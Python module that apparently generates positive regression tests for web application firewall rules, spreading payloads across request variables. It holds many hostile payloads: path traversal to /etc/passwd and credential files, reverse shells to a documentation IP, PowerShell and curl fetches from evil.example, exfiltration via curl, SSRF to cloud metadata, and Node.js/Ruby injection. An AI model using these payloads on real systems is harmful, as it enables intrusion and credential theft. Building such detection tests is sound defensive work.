"""Blind positive regression tests for the command-injection, file-access, remote-file-inclusion, generic
(Node.js, SSRF, prototype pollution, Ruby, Perl, Node.js DoS, data: scheme) and Java detection titles, written as a
rule author writes them: for every variable a rule reads.

Angle: a WAF rule reads named variables, so every title's payloads are spread over the variables its rule
plausibly reads: argument values (query, form, JSON values), argument NAMES (query-name, form-name, json-key),
cookie values and cookie names, request headers (User-Agent, Referer, X-Forwarded-For, X-Api-Version, X-Custom,
X-Filename ...), the path (REQUEST_FILENAME), the body whole (an XML document, a text/plain body that is not
key=value), XML element text and attributes, and multipart field values, field names, file names and a text
file's content. Each payload sits in ONE variable; each (payload, variable) pair is sent twice, on two of our
real routes that take that variable (e.g. a query on GET /api/users and on GET /admin/users/search; a JSON value
on POST /api/users and on PATCH /api/users/42 or a Slack event's text; a form field on the admin search and on
/me/settings or /oauth/token; a multipart part on POST /me/settings and on POST /api/users), always among a
browser's or a client's ordinary headers (current User-Agent, Accept, Accept-Language, Accept-Encoding, a Referer
on https://app.example.com/..., Sec-Fetch-*, a session and a consent cookie).

Families and sub-families (one sub-family per detection title):
- lfi: path-traversal-encoded (930100), path-traversal-dots (930110), os-file-access (930120),
  restricted-file-access (930130), os-file-access-headers and path-traversal-triple-dot (later releases).
- rfi: rfi-ip-address (931100), rfi-vulnerable-param-name (931110), rfi-trailing-question-mark (931120),
  rfi-off-domain (931130).
- rce: unix-cmd-injection (932100), unix-cmd-injection-2 (932105), windows-cmd-injection (932110),
  windows-cmd-injection-2 (932115), powershell-command (932120), unix-shell-expression (932130),
  windows-for-if (932140), direct-unix-exec (932150), unix-shell-code (932160), shellshock-headers (932170),
  shellshock-args (932171), restricted-file-upload (932180), rce-bypass (932200); later releases:
  unix-cmd-no-evasion, unix-cmd-evasion, unix-alias, unix-history, unix-pipes-short-cmds, sqlite-system-cmd,
  smtp-cmd, imap-cmd, pop3-cmd, windows-cmd-evasion, shell-code-in-headers, direct-unix-exec-paths.
- generic: nodejs-injection (934100), nodejs-injection-1, nodejs-injection-2, ssrf-cloud-metadata, ssrf-ip-url,
  prototype-pollution, ruby-injection, perl-injection, nodejs-dos, php-data-scheme (later releases).
- java: java-class-rce (944100), java-process-spawn (944110), java-serialization-gadget (944120),
  java-suspicious-class (944130), java-magic-bytes (944200), java-magic-base64 (944210),
  java-serialization-cve-2015-4852 (944240), java-suspicious-method (944250, also the later title of that name);
  later releases: log4shell, java-class-loading, java-script-upload.

Placements: query, query-name, form, form-name, json, json-key, xml, xml-attr, cookie, cookie-name,
header:<Name>, path, raw-body, multipart-field, multipart-name, multipart-filename, multipart-file. The payload
field of a record is the variable's value as the application sees it after its one ordinary decoding (percent
decoding of a query, form or cookie; JSON or XML parsing), except for path payloads, which are the raw path segment
as sent. Evasions are part of the payload (double URL encoding, overlong UTF-8, mixed case, quotes, carets,
$IFS and tab substitutes) or of the body: a few JSON values are written with \\u escapes, a few XML values with
numeric character references, and 944200's raw magic bytes are percent-encoded as single bytes.

The benign half carries the same words innocently, in the same variables: Slack messages and bios about shells,
files and Java (chat_and_bio), searches, admin forms and settings, XML profiles, multipart uploads of ordinary
files, real browser and client User-Agents, Referers, cookies, paths, JSON keys and OAuth token requests.

Authorship and independence: written from general knowledge and the detection titles alone (no rule, engine,
ruleset regression test or public payload list was read), measured once through the real stack on unchanged
code, without changing a payload afterwards. Deterministic: every token comes from a seeded random source.
"""

from __future__ import annotations

import base64
import json
import random
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "eightysecond"

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.2592.87",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
]
CLIENT_UAS = ["python-requests/2.32.3", "curl/8.7.1", "okhttp/4.12.0", "axios/1.7.2"]
REFERERS = ["https://app.example.com/admin/users", "https://app.example.com/settings/profile",
            "https://app.example.com/people?team=platform", "https://app.example.com/dashboard"]


@dataclass(frozen=True)
class T:
    """One test payload in one variable. name: the parameter, field, cookie or header name (a default of the
    sub-family when empty). enc: "u" JSON value written with \\u escapes; "raw" inserted verbatim into XML (numeric
    character references); "doc" the whole XML document; "bytes" code points below 256 percent-encoded as single
    bytes."""

    place: str
    payload: str
    name: str = ""
    enc: str = ""


@dataclass(frozen=True)
class Sub:
    category: str
    sub: str
    title: str
    name: str   # default parameter name
    tests: tuple[T, ...]


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


JSER = b"\xac\xed\x00\x05"   # Java serialization stream magic and version

SUBS: list[Sub] = [
    # ------------------------------------------------------------------ LFI
    Sub("lfi", "path-traversal-encoded", "930100 Path Traversal Attack (/../) encoded", "file", (
        T("query", "..%2f..%2f..%2fetc%2fpasswd"),
        T("path", "..%2f..%2f..%2fetc%2fpasswd"),
        T("path", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
        T("header:Referer", "https://app.example.com/download?file=..%252f..%252f..%252fetc%252fpasswd"),
        T("cookie", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "lang"),
        T("json", "..%5c..%5c..%5cwindows%5cwin.ini", "avatar_path"),
        T("query-name", "..%2F..%2F..%2Fetc%2Fgroup"),
        T("xml", "%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron"),
        T("form", "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "template"),
        T("header:X-Original-URL", "/api/users/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    )),
    Sub("lfi", "path-traversal-dots", "930110 Path Traversal Attack (/../)", "file", (
        T("query", "../../../../etc/passwd"),
        T("query-name", "../../etc/passwd"),
        T("form", "....//....//....//etc/passwd", "template"),
        T("json", "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts", "attachment"),
        T("cookie", "../../../../../var/log/nginx/access.log", "theme"),
        T("xml", "../../../../etc/shadow"),
        T("xml-attr", "../../../../root/.ssh/id_rsa"),
        T("multipart-filename", "../../../../tmp/avatar.png"),
        T("header:X-File-Path", "..\\..\\..\\boot.ini"),
        T("json", "../../../etc/passwd", "document", "u"),
    )),
    Sub("lfi", "os-file-access", "930120 OS File Access Attempt", "file", (
        T("query", "/etc/passwd"),
        T("form", "/proc/self/environ", "doc"),
        T("cookie", "/etc/shadow", "last_export"),
        T("cookie-name", ".bash_history"),
        T("json", "C:\\Windows\\win.ini", "import_path"),
        T("xml", "/root/.ssh/authorized_keys"),
        T("query-name", "/etc/passwd"),
        T("path", "proc/self/cmdline"),
        T("multipart-field", "/var/run/secrets/kubernetes.io/serviceaccount/token", "import_path"),
        T("form", "/etc/./././passwd", "path"),
    )),
    Sub("lfi", "restricted-file-access", "930130 Restricted File Access Attempt", "file", (
        T("path", ".env"),
        T("path", ".git/config"),
        T("path", "users/.htaccess"),
        T("path", "web.config"),
        T("path", ".aws/credentials"),
        T("path", "WEB-INF/web.xml"),
        T("path", ".svn/entries"),
        T("path", ".DS_Store"),
        T("query", ".git/HEAD"),
        T("path", "%2egit/config"),
    )),
    Sub("lfi", "os-file-access-headers", "OS File Access Attempt in REQUEST_HEADERS", "", (
        T("header:Referer", "https://app.example.com/view?file=/etc/passwd"),
        T("header:User-Agent", "Mozilla/5.0 (X11; Linux x86_64) /proc/self/environ"),
        T("header:X-Forwarded-For", "/etc/passwd"),
        T("header:X-Template", "/etc/hosts"),
        T("header:X-Api-Version", "/root/.bash_history"),
        T("header:X-File", "C:\\boot.ini"),
        T("header:X-Original-URL", "/etc/shadow"),
        T("header:Referer", "https://app.example.com/?page=/var/log/apache2/access.log"),
    )),
    Sub("lfi", "path-traversal-triple-dot", "Path Traversal Attack (/../) or (/.../)", "file", (
        T("query", ".../.../.../etc/passwd"),
        T("path", "...%2f...%2f...%2fetc%2fpasswd"),
        T("form", "....\\....\\....\\windows\\win.ini", "template"),
        T("header:Referer", "https://app.example.com/.../.../.../etc/passwd"),
        T("cookie", ".../...//.../etc/shadow", "theme"),
        T("json", "..././..././..././etc/passwd", "attachment"),
        T("xml", "...\\...\\...\\boot.ini"),
        T("multipart-filename", ".../.../.../etc/cron.d/job"),
        T("xml", "&#46;&#46;&#46;&#47;&#46;&#46;&#46;&#47;etc&#47;passwd", enc="raw"),
    )),
    # ------------------------------------------------------------------ RFI
    Sub("rfi", "rfi-ip-address", "931100 RFI: URL Parameter using IP Address", "file", (
        T("query", "http://203.0.113.7/shell.txt"),
        T("form", "https://198.51.100.23/inc/config.php", "page"),
        T("json", "ftp://192.0.2.44/pub/payload.txt", "template"),
        T("cookie", "http://10.20.30.40:8080/x.php", "include"),
        T("xml", "http://203.0.113.99/r57.txt"),
        T("multipart-field", "https://198.51.100.7/tpl.html", "template_url"),
        T("query", "HtTp://203.0.113.8/c99.txt", "page"),
        T("json", "http://192.0.2.10/evil.php", "include", "u"),
        T("query", "http://[2001:db8::7]/shell.txt", "path"),
    )),
    Sub("rfi", "rfi-vulnerable-param-name", "931110 RFI: Common RFI Vulnerable Parameter Name w/URL Payload", "", (
        T("query", "http://attacker.example/shell.txt", "include"),
        T("query", "http://attacker.example/x.txt?", "mosConfig_absolute_path"),
        T("form", "https://evil.example/inc.php", "page"),
        T("form", "ftp://files.evil.example/a.txt", "file"),
        T("raw-body", "path=http://evil.example/shell.txt"),
        T("json", "http://evil.example/t.txt", "template"),
        T("query", "http://attacker.example/config.txt?", "_CONF[path]"),
        T("multipart-field", "http://attacker.example/r57.txt", "inc"),
        T("query", "HTTPS://evil.example/p.php", "Path"),
        T("cookie", "http://evil.example/x.txt", "file"),
    )),
    Sub("rfi", "rfi-trailing-question-mark", "931120 RFI: URL Payload w/Trailing Question Mark", "file", (
        T("query", "http://evil.example/shell.txt?"),
        T("form", "https://attacker.example/inc.txt?", "page"),
        T("json", "ftp://evil.example/x.txt?", "template"),
        T("cookie", "http://evil.example/c99.php?", "include"),
        T("xml", "http://attacker.example/p.txt??"),
        T("multipart-field", "https://evil.example/r57.txt?", "template_url"),
        T("query", "http://evil.example/x.txt%3f", "page"),
        T("json", "http://evil.example/a.txt?", "include", "u"),
        T("query", "//evil.example/shell.txt?", "path"),
    )),
    Sub("rfi", "rfi-off-domain", "931130 RFI: Off-Domain Reference/Link", "url", (
        T("query", "https://evil.example/payload.txt"),
        T("form", "http://attacker.example/login", "redirect"),
        T("json", "https://attacker.example/a.php", "avatar_url"),
        T("cookie", "https://evil.example/", "return_to"),
        T("xml", "ftp://evil.example/data"),
        T("multipart-field", "https://evil.example/x", "link"),
        T("query", "HTTPS://EVIL.EXAMPLE/x.txt", "next"),
        T("form", "https://attacker.example/callback", "redirect_uri"),
    )),
    # ------------------------------------------------------------------ RCE (3.x titles)
    Sub("rce", "unix-cmd-injection", "932100 Unix Command Injection", "host", (
        T("query", "127.0.0.1; cat /etc/passwd"),
        T("form", "8.8.8.8 | id", "ip"),
        T("json", "x && whoami", "name"),
        T("cookie", ";ls -la /", "prefs"),
        T("cookie-name", "|id"),
        T("query-name", ";wget http://evil.example/x"),
        T("xml", "a || curl http://evil.example/s.sh | sh"),
        T("multipart-field", "1;nc -e /bin/sh 203.0.113.5 4444", "display_name"),
        T("json", "; id", "title", "u"),
        T("form", "127.0.0.1\nid", "ip"),
    )),
    Sub("rce", "unix-cmd-injection-2", "932105 Unix Command Injection", "host", (
        T("query", "x; ping -c 10 203.0.113.5"),
        T("form", "| python -c 'import os;os.system(\"id\")'", "q"),
        T("json", "; perl -e 'print 1'", "department"),
        T("cookie", "& sh -c id", "prefs"),
        T("xml", "; bash -c 'id'"),
        T("query-name", "|ifconfig"),
        T("multipart-name", ";tail /var/log/auth.log"),
        T("header:Referer", "https://app.example.com/?h=1;chmod 777 /tmp/x"),
        T("query", ";w'h'o'a'm'i", "q"),
        T("form", "$;kill -9 1", "q"),
    )),
    Sub("rce", "windows-cmd-injection", "932110 Windows Command Injection", "host", (
        T("query", "& dir C:\\"),
        T("form", "| type C:\\Windows\\win.ini", "ip"),
        T("json", "&& net user hacker P4ss /add", "name"),
        T("cookie", "| ipconfig /all", "prefs"),
        T("xml", "& cmd.exe /c whoami"),
        T("query-name", "&systeminfo"),
        T("multipart-field", "| certutil -urlcache -split -f http://evil.example/a.exe a.exe", "display_name"),
        T("query", "& w^h^o^a^m^i", "q"),
        T("form", "|net localgroup administrators", "q"),
    )),
    Sub("rce", "windows-cmd-injection-2", "932115 Windows Command Injection", "host", (
        T("query", "& tasklist /v"),
        T("form", "; reg query HKLM\\Software\\Microsoft", "q"),
        T("json", "| wmic process call create calc.exe", "title"),
        T("cookie", "& bitsadmin /transfer j http://evil.example/a.exe C:\\a.exe", "prefs"),
        T("xml", "&& schtasks /create /tn x /tr calc.exe /sc once /st 00:00"),
        T("multipart-field", "| netstat -ano", "bio"),
        T("query", "& NeT UsEr", "q"),
        T("form", "& who\"am\"i", "ip"),
        T("query-name", "|taskkill /f /im av.exe"),
    )),
    Sub("rce", "powershell-command", "932120 Windows PowerShell Command Found", "q", (
        T("query", "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
                   "'http://evil.example/a')\""),
        T("form", "Invoke-Expression (iwr http://evil.example/p.ps1)"),
        T("json", "Get-ChildItem C:\\Users -Recurse", "bio"),
        T("cookie", "Start-Process calc.exe", "prefs"),
        T("xml", "Invoke-WebRequest -Uri http://evil.example/x -OutFile C:\\x.exe"),
        T("multipart-field", "powershell.exe -EncodedCommand SQBFAFgAIAAoAGkAdwByACkA", "bio"),
        T("query", "pOwErShElL -ExecutionPolicy Bypass -File x.ps1"),
        T("raw-body", "Set-MpPreference -DisableRealtimeMonitoring $true"),
        T("json", "Invoke-Mimikatz -DumpCreds", "title", "u"),
        T("form", "i`e`x (New-Object Net.WebClient).DownloadString('http://evil.example/b')"),
    )),
    Sub("rce", "unix-shell-expression", "932130 Unix Shell Expression Found", "q", (
        T("query", "$(id)"),
        T("form", "`whoami`"),
        T("json", "$(cat /etc/passwd)", "name"),
        T("cookie", "<(id)", "prefs"),
        T("xml", "`cat /etc/hosts`"),
        T("query-name", "$(whoami)"),
        T("multipart-field", ">(nc 203.0.113.5 4444)", "bio"),
        T("header:Referer", "https://app.example.com/?q=$(curl evil.example)"),
        T("form", "%24%28id%29"),
        T("json", "/???/??t /???/p??swd", "title"),
    )),
    Sub("rce", "windows-for-if", "932140 Windows FOR/IF Command Found", "q", (
        T("query", "for /f %i in ('whoami') do echo %i"),
        T("form", "if exist C:\\Windows\\win.ini type C:\\Windows\\win.ini"),
        T("json", "& for /l %x in (1,1,100) do ping 127.0.0.1", "bio"),
        T("cookie", "for %a in (*.txt) do type %a", "prefs"),
        T("xml", "if not exist C:\\x.exe certutil -urlcache -f http://evil.example/x.exe C:\\x.exe"),
        T("multipart-field", "FOR /F \"tokens=*\" %a IN ('dir /b') DO del %a", "bio"),
        T("query", "& FoR /R C:\\ %f IN (*.config) Do type %f"),
        T("form", "if defined PATH (echo %PATH%) else (whoami)"),
    )),
    Sub("rce", "direct-unix-exec", "932150 Direct Unix Command Execution", "q", (
        T("query", "cat /etc/passwd"),
        T("form", "/bin/bash -i"),
        T("json", "wget http://evil.example/x.sh -O /tmp/x.sh", "name"),
        T("cookie", "nc -lvp 4444", "prefs"),
        T("xml", "curl -d @/etc/passwd http://evil.example"),
        T("multipart-field", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "bio"),
        T("query-name", "uname -a"),
        T("query", "c\\at /et\\c/pas\\swd"),
        T("form", "/usr/bin/whoami"),
    )),
    Sub("rce", "unix-shell-code", "932160 Unix Shell Code Found", "q", (
        T("query", "/bin/sh"),
        T("form", "/usr/bin/env bash"),
        T("json", "/bin/bash -c 'id'", "bio"),
        T("cookie", "/bin/zsh", "shell"),
        T("xml", "/usr/bin/perl -e 'exec \"/bin/sh\"'"),
        T("multipart-field", "/usr/local/bin/bash", "bio"),
        T("query", "/b'i'n/s'h'"),
        T("query", "/bin/s?"),
        T("form", "/usr/bin/../bin/sh"),
        T("query-name", "/bin/bash"),
    )),
    Sub("rce", "shellshock-headers", "932170 Shellshock (CVE-2014-6271) in headers", "", (
        T("header:User-Agent", "() { :; }; /bin/bash -c 'id'"),
        T("header:Referer", "() { :;}; echo vulnerable"),
        T("cookie", "() { :; }; /usr/bin/wget http://evil.example/x", "prefs"),
        T("header:X-Forwarded-For", "() { ignored; }; /bin/cat /etc/passwd"),
        T("header:X-Api-Version", "() { _; } >_[$($())] { id; }"),
        T("header:Accept-Language", "() { :;}; sleep 5"),
        T("query", "() { :;}; /bin/id", "q"),
        T("header:X-Custom", "(){ :;};ping -c 1 203.0.113.5"),
    )),
    Sub("rce", "shellshock-args", "932171 Shellshock (CVE-2014-6271) in arguments", "q", (
        T("query", "() { :; }; /bin/id"),
        T("form", "() { :;}; cat /etc/shadow"),
        T("json", "() { x; }; echo pwned", "bio"),
        T("query-name", "() { :;}; id"),
        T("multipart-filename", "() { :; };id.txt"),
        T("multipart-name", "() { :;}; whoami"),
        T("xml", "() { :; }; /bin/sh -c id"),
        T("cookie", "() { :;}; /bin/uname -a", "prefs"),
        T("form-name", "() { _;}; id"),
    )),
    Sub("rce", "restricted-file-upload", "932180 Restricted File Upload Attempt", "", (
        T("multipart-filename", ".htaccess"),
        T("multipart-filename", "web.config"),
        T("multipart-filename", ".user.ini"),
        T("header:X-Filename", ".htaccess"),
        T("header:X-File-Name", "web.config"),
        T("header:X-Filename", "WEB.CONFIG"),
        T("multipart-filename", ".htpasswd"),
        T("multipart-filename", ".HTACCESS"),
    )),
    Sub("rce", "rce-bypass", "932200 RCE Bypass Technique", "q", (
        T("query", "c'a't /e't'c/p'a's's'w'd"),
        T("form", "w\"h\"o\"am\"i"),
        T("json", "ca\\t /et\\c/pa\\sswd", "name"),
        T("cookie", "cat$u /etc$u/passwd", "prefs"),
        T("xml", "/???/c?t /e??/p?ss??"),
        T("query", "who$@ami"),
        T("multipart-field", "c${x}at /etc/pa${x}sswd", "bio"),
        T("header:Referer", "https://app.example.com/?c=c'a't+/etc/passwd"),
        T("form", "{cat,/etc/passwd}"),
    )),
    # ------------------------------------------------------------------ RCE (later titles)
    Sub("rce", "unix-cmd-no-evasion", "Unix Command Injection (command without evasion)", "q", (
        T("query", ";cat /etc/passwd"),
        T("form", "| id"),
        T("json", "&& uname -a", "name"),
        T("cookie", "; ls -la", "prefs"),
        T("xml", "| whoami"),
        T("query-name", ";id"),
        T("multipart-field", "&& ps aux", "display_name"),
        T("header:Referer", "https://app.example.com/ping?host=1.1.1.1;id"),
    )),
    Sub("rce", "unix-cmd-evasion", "Unix Command Injection evasion attempt detected", "q", (
        T("query", ";c$()at /etc/passwd"),
        T("form", "|w`echo h`oami"),
        T("json", ";/bin/c\\at /e\\tc/pa\\sswd", "title"),
        T("cookie", ";cat${IFS}/etc/passwd", "prefs"),
        T("xml", "| i''d"),
        T("multipart-field", ";ca\"\"t /etc/hosts", "bio"),
        T("query", ";$'\\x63\\x61\\x74' /etc/passwd"),
        T("query-name", ";who$9ami"),
        T("form", "x\nwho''ami"),
        T("json", ";cat\t/etc/passwd", "bio"),
    )),
    Sub("rce", "unix-alias", "Unix shell alias invocation", "q", (
        T("query", "; alias x='id'; x"),
        T("form", "&& alias ll='cat /etc/passwd'"),
        T("json", "| alias a=whoami;a", "bio"),
        T("cookie", ";alias cmd=\"nc -e /bin/sh 203.0.113.5 4444\"", "prefs"),
        T("xml", "; unalias -a; id"),
        T("multipart-field", "; alias -p", "bio"),
        T("query-name", ";alias s=sh"),
        T("header:Referer", "https://app.example.com/?q=;alias+s=sh;s"),
    )),
    Sub("rce", "unix-history", "Unix shell history invocation", "q", (
        T("query", ";!!"),
        T("form", "| !-2"),
        T("json", "; history | tail", "bio"),
        T("cookie", ";!$", "prefs"),
        T("xml", "&& fc -l"),
        T("multipart-field", "; !cat", "bio"),
        T("query", "`!!`"),
        T("query-name", ";!-1"),
    )),
    Sub("rce", "unix-pipes-short-cmds", "Unix command injection with pipes / 2-3 letter commands", "q", (
        T("query", "|id"),
        T("form", "|ls"),
        T("json", "| ps", "name"),
        T("cookie", "|dd if=/dev/zero", "prefs"),
        T("xml", "| nc 203.0.113.5 80"),
        T("multipart-field", "|sh", "display_name"),
        T("query-name", "|w"),
        T("query", "|\tdu -sh /"),
        T("form", "|| df"),
    )),
    Sub("rce", "sqlite-system-cmd", "SQLite System Command Execution", "q", (
        T("query", ".system id"),
        T("form", ".shell cat /etc/passwd"),
        T("json", "'; .system whoami --", "name"),
        T("cookie", ".shell ls", "prefs"),
        T("xml", ".system curl http://evil.example/x|sh"),
        T("multipart-field", ".once |id", "bio"),
        T("raw-body", ".system rm -rf /tmp/cache"),
        T("query", ".shell\tuname -a"),
    )),
    Sub("rce", "smtp-cmd", "SMTP Command Execution", "email", (
        T("query", "user@example.com\r\nRCPT TO:<victim@example.org>"),
        T("form", "x\r\nMAIL FROM:<attacker@evil.example>"),
        T("json", "a\r\nDATA\r\nSubject: hi\r\n.", "email"),
        T("xml", "\nHELO evil.example\n"),
        T("multipart-field", "\r\nEHLO evil.example\r\nAUTH LOGIN", "email"),
        T("raw-body", "QUIT\r\nVRFY root"),
        T("cookie", "%0d%0aRCPT%20TO:<a@evil.example>", "email"),
    )),
    Sub("rce", "imap-cmd", "IMAP Command Execution", "folder", (
        T("query", "INBOX\r\na1 LOGOUT"),
        T("form", "x\r\nA1 SELECT INBOX"),
        T("json", "\r\n1 FETCH 1:* (BODY[])", "folder"),
        T("xml", "\na001 LIST \"\" *"),
        T("multipart-field", "\r\nA2 CAPABILITY", "folder"),
        T("raw-body", "a3 STORE 1 +FLAGS (\\Deleted)\r\na4 EXPUNGE"),
        T("cookie", "INBOX%0d%0aA1%20DELETE%20INBOX", "folder"),
    )),
    Sub("rce", "pop3-cmd", "POP3 Command Execution", "mailbox", (
        T("query", "x\r\nUSER admin"),
        T("form", "\r\nRETR 1"),
        T("json", "a\r\nDELE 1", "mailbox"),
        T("xml", "\nLIST\nQUIT"),
        T("multipart-field", "\r\nSTAT", "mailbox"),
        T("raw-body", "USER root\r\nTOP 1 10"),
        T("cookie", "%0d%0aUIDL", "mailbox"),
    )),
    Sub("rce", "windows-cmd-evasion", "Windows Command Injection (cmd, powershell with evasions)", "q", (
        T("query", "&c^m^d /c who^ami"),
        T("form", "| p^o^w^e^r^s^h^e^l^l -c id"),
        T("json", "& cmd /c \"set x=who&& call %x%ami\"", "name"),
        T("cookie", "&cmd.exe /V:ON /C\"set a=calc&&!a!\"", "prefs"),
        T("xml", "| C:\\Windows\\System32\\cmd.exe /c dir"),
        T("multipart-field", "& %COMSPEC% /c whoami", "bio"),
        T("query-name", "&ping -n 5 127.0.0.1"),
        T("form", "|pwsh -enc SQBFAFgA"),
        T("query", "& c\"m\"d /c ver"),
    )),
    Sub("rce", "shell-code-in-headers", "Unix Shell Code Found in REQUEST_HEADERS", "", (
        T("header:User-Agent", "/bin/bash -c 'id'"),
        T("header:Referer", "https://app.example.com/?x=/bin/sh"),
        T("header:X-Forwarded-For", "127.0.0.1; /bin/sh -i"),
        T("header:X-Api-Version", "$(/bin/sh -c id)"),
        T("header:X-Custom", "/usr/bin/nc -e /bin/sh 203.0.113.5 4444"),
        T("header:Accept-Language", "en;/bin/bash"),
        T("header:User-Agent", "curl/8.5.0 /usr/bin/id"),
        T("header:X-Real-IP", "/bin/zsh"),
    )),
    Sub("rce", "direct-unix-exec-paths", "Direct Unix Command Execution (absolute paths, wildcards)", "q", (
        T("query", "/bin/cat /etc/passwd"),
        T("form", "/usr/bin/id"),
        T("json", "/bin/c?t /etc/p?sswd", "name"),
        T("cookie", "/usr/bin/wh*mi", "prefs"),
        T("xml", "/sbin/ifconfig"),
        T("multipart-field", "/usr/bin/curl http://evil.example/x", "bio"),
        T("query", "/b[i]n/ca[t] /etc/passwd"),
        T("query-name", "/usr/bin/whoami"),
        T("path", "%2Fbin%2Fsh"),
    )),
    # ------------------------------------------------------------------ generic
    Sub("generic", "php-data-scheme", "PHP data scheme attack", "file", (
        T("query", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=="),
        T("form", "data:text/plain,<?php phpinfo(); ?>", "page"),
        T("json", "data://text/plain,<?php echo shell_exec('id'); ?>", "template"),
        T("cookie", "data://text/plain;base64,PD9waHAgZXZhbCgkX0dFVFsneCddKTs/Pg==", "include"),
        T("xml", "data:application/x-httpd-php;base64,PD9waHAgcGhwaW5mbygpOz8+"),
        T("multipart-field", "DATA://text/plain,<?php system('ls');?>", "template_url"),
        T("query", "data:;base64,PD9waHAgc3lzdGVtKCJ3aG9hbWkiKTs/Pg==", "page"),
        T("json", "data://text/plain,<?php passthru('id');?>", "include", "u"),
    )),
    Sub("generic", "nodejs-injection", "934100 Node.js Injection Attack", "q", (
        T("query", "require('child_process').exec('id')"),
        T("form", "_$$ND_FUNC$$_function(){require('child_process').execSync('id')}()"),
        T("json", "process.mainModule.require('child_process').execSync('whoami')", "bio"),
        T("cookie", _b64(b'{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'),
          "profile"),
        T("xml", "this.constructor.constructor('return process')().mainModule.require('fs')"),
        T("multipart-field", "require(\"fs\").readFileSync(\"/etc/passwd\")", "bio"),
        T("json", "require('child_process').spawn('sh')", "title", "u"),
        T("query", "global.process.mainModule.constructor._load('child_process').exec('id')"),
        T("form", "new Function('return process')().exit()"),
    )),
    Sub("generic", "nodejs-injection-1", "Node.js Injection Attack 1/2", "q", (
        T("query", "__js_function: function(){ return process.env }"),
        T("form", "eval(String.fromCharCode(114,101,113,117,105,114,101))"),
        T("json", "child_process.spawnSync('ls')", "title"),
        T("cookie", "{\"x\":\"_$$ND_FUNC$$_function(){return 1}()\"}", "profile"),
        T("xml", "new Function(\"return this\")().process"),
        T("multipart-field", "process.binding('fs')", "bio"),
        T("query", "require(`child_process`)['exec']('id')"),
    )),
    Sub("generic", "nodejs-injection-2", "Node.js Injection Attack 2/2", "q", (
        T("query", "this.constructor.constructor(\"return process\")()"),
        T("form", "process.kill(process.pid, 'SIGKILL')"),
        T("json", "vm.runInNewContext('this.constructor.constructor(\"return process\")()')", "bio"),
        T("cookie", "eval(Buffer.from('cmVxdWlyZQ==','base64').toString())", "prefs"),
        T("xml", "module.constructor._load('child_process')"),
        T("multipart-field", "import('child_process').then(c=>c.exec('id'))", "bio"),
        T("query", "setTimeout('process.exit()',1)"),
        T("header:User-Agent", "require('child_process').exec('id')"),
    )),
    Sub("generic", "ssrf-cloud-metadata", "Possible SSRF: Cloud provider metadata URL in Parameter", "url", (
        T("query", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        T("form", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
          "webhook"),
        T("json", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "avatar_url"),
        T("cookie", "http://100.100.100.200/latest/meta-data/", "return_to"),
        T("xml", "http://[fd00:ec2::254]/latest/meta-data/"),
        T("multipart-field", "http://metadata/computeMetadata/v1/", "image_url"),
        T("query", "http://instance-data/latest/meta-data/", "callback"),
        T("form", "http://169.254.170.2/v2/credentials", "redirect_uri"),
        T("json", "http://169.254.169.254/latest/user-data", "webhook_url", "u"),
    )),
    Sub("generic", "ssrf-ip-url", "Possible SSRF: URL Parameter using IP Address", "url", (
        T("query", "http://127.0.0.1:6379/"),
        T("form", "http://2130706433/admin", "webhook"),
        T("json", "http://0x7f000001/", "avatar_url"),
        T("cookie", "http://0177.0.0.1/", "return_to"),
        T("xml", "http://[::1]:8080/"),
        T("multipart-field", "http://[::ffff:127.0.0.1]/", "image_url"),
        T("query", "gopher://10.0.0.5:6379/_FLUSHALL", "callback"),
        T("query", "http://127.1/", "next"),
        T("form", "http://0/", "redirect_uri"),
        T("json", "http://017700000001/", "webhook_url"),
    )),
    Sub("generic", "prototype-pollution", "JavaScript Prototype Pollution", "", (
        T("query-name", "__proto__[isAdmin]"),
        T("query-name", "constructor[prototype][role]"),
        T("json-key", "__proto__"),
        T("json-key", "constructor"),
        T("form-name", "user[__proto__][admin]"),
        T("cookie-name", "__proto__[admin]"),
        T("multipart-name", "__proto__[polluted]"),
        T("query-name", "__pro__proto__to__[x]"),
        T("json-key", "__proto__", enc="u"),
        T("query", "__proto__.isAdmin=true", "q"),
    )),
    Sub("generic", "ruby-injection", "Ruby Injection Attack", "q", (
        T("query", "Kernel.exec('id')"),
        T("form", "%x(id)"),
        T("json", "IO.popen('cat /etc/passwd').read", "bio"),
        T("cookie", "Kernel.system('whoami')", "prefs"),
        T("xml", "Open3.capture2('id')"),
        T("multipart-field", "Object.const_get('Kernel').send(:system,'id')", "bio"),
        T("query", "File.read('/etc/passwd')"),
        T("form", "instance_eval('`whoami`')"),
        T("query", "Marshal.load(Base64.decode64(params[:d]))"),
    )),
    Sub("generic", "perl-injection", "Perl Injection Attack", "q", (
        T("query", "@{[system 'id']}"),
        T("form", "qx{whoami}"),
        T("json", "open(F, '|id')", "bio"),
        T("cookie", "eval{system('id')}", "prefs"),
